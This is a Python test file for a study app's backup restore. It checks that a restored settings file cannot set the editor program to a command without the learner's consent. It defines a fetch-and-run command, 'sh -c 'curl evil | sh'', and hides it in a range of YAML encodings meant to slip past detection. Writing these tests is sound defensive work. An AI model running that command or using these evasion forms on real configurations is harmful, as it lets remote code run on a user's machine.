"""A backup cannot set the program that the app runs to edit a question, unless the learner agrees."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.storage.folders import pack, paths_in, with_manifest
from tests.storage.stores import AT
from tpm_tui.storage.backup.restore import RestoreResult, restore, summarize_backup
from tpm_tui.storage.files.paths import Paths
from tpm_tui.storage.settings.load import load_config

EVIL = "sh -c 'curl evil | sh' --"


@pytest.fixture
def paths(tmp_path: Path) -> Paths:
    paths = paths_in(tmp_path / "home")
    paths.config.parent.mkdir(parents=True)
    return paths


def restore_settings(paths: Paths, settings: str | bytes, *, with_editor: bool = False) -> RestoreResult:
    data = settings.encode() if isinstance(settings, str) else settings
    path = pack(paths.config.parent.parent / "b.zip", with_manifest({"config.yaml": data}))
    return restore(paths, path, AT, with_editor=with_editor)


def editor_in_force(paths: Paths) -> str:
    return load_config(paths.config, None).config.editor


SETTINGS = f'# mine\nper_day: 7\neditor: "{EVIL}"  # fast\nmax_new: 3\n'

FORMS = [
    SETTINGS,
    f'"editor": "{EVIL}"\nper_day: 7\n',
    f'"edi\\x74or": "{EVIL}"\nper_day: 7\n',
    f"edi\u200btor: {EVIL}\nper_day: 7\n",
    f"\ufeffeditor: {EVIL}\nper_day: 7\n",
    f'{{per_day: 7, editor: "{EVIL}"}}\n',
    f"per_day: 7\r\neditor: {EVIL}\r\n",
    f"editor: >\n  {EVIL}\n  more\nper_day: 7\n",
]


@pytest.mark.parametrize("settings", FORMS)
@pytest.mark.parametrize("own", ["", "editor: nano\n"])
def test_program_of_a_backup_is_left_out(paths: Paths, settings: str, own: str) -> None:
    paths.config.write_text(own, "utf-8")
    done = restore_settings(paths, settings)
    config = load_config(paths.config, None).config
    assert (config.editor, config.per_day) == ("nano" if own else "", 7)
    (problem,) = done.problems
    assert "the setting editor was not restored, as it names a program: sh -c 'curl evil" in problem.message
    assert problem.hint.startswith("to use it, run: tpm-tui config set editor ")
    assert problem.severity == "warning"


def test_other_lines_of_the_settings_stay(paths: Paths) -> None:
    restore_settings(paths, SETTINGS)
    assert paths.config.read_text("utf-8") == '# mine\nper_day: 7\neditor: ""  # fast\nmax_new: 3\n'


@pytest.mark.parametrize(
    "settings", ["per_day: 7\n", "", "# editor: vi\n", "keymap: {editor: f4}\n", "a: [editor]"]
)
def test_settings_without_program_are_restored_unchanged(paths: Paths, settings: str) -> None:
    paths.config.write_text("editor: nano\n", "utf-8")
    assert restore_settings(paths, settings).problems == ()
    assert paths.config.read_text("utf-8") == settings


def test_same_program_as_now_is_restored_unchanged(paths: Paths) -> None:
    paths.config.write_text("editor: nano -w\n", "utf-8")
    assert restore_settings(paths, "editor: 'nano -w'  # wrap\n").problems == ()
    assert paths.config.read_text("utf-8") == "editor: 'nano -w'  # wrap\n"


def test_confirmed_program_is_restored(paths: Paths) -> None:
    assert restore_settings(paths, SETTINGS, with_editor=True).problems == ()
    assert paths.config.read_text("utf-8") == SETTINGS


@pytest.mark.parametrize(
    "settings",
    [
        f"editor: {EVIL}\neditor: {EVIL}\n",
        f"editor: {EVIL}\nbroken: [\n",
        f"editor: {EVIL}\n".encode() + b"\xff",
        f"editor: {EVIL}\n".encode() + b"# " + b"x" * 300_000,
        "[" * 5_000,
        f"\u00a0editor: {EVIL}\n\u00a0per_day: 7\n",
        f"\u3000editor: {EVIL}\n",
        f'"editor ": {EVIL}\nper_day: 7\n',
        f'{{"\teditor": "{EVIL}", per_day: 7}}\n',
    ],
    ids=range(9),
)
def test_settings_that_cannot_be_changed_are_left_out(paths: Paths, settings: str | bytes) -> None:
    paths.config.write_text("per_day: 3\n", "utf-8")
    done = restore_settings(paths, settings)
    assert paths.config.read_text("utf-8") == "per_day: 3\n"
    (problem,) = done.problems
    assert "the settings were not restored: " in problem.message
    assert len(str(problem)) < 400


def test_summary_names_the_program(paths: Paths) -> None:
    for settings, editor in ((SETTINGS, EVIL), ("per_day: 7\n", ""), ("broken: [\n", "")):
        path = pack(paths.config.parent / "b.zip", with_manifest({"config.yaml": settings.encode()}))
        assert summarize_backup(path).editor == editor
    assert summarize_backup(pack(path, with_manifest({"progress.json": b"{}"}))).editor == ""
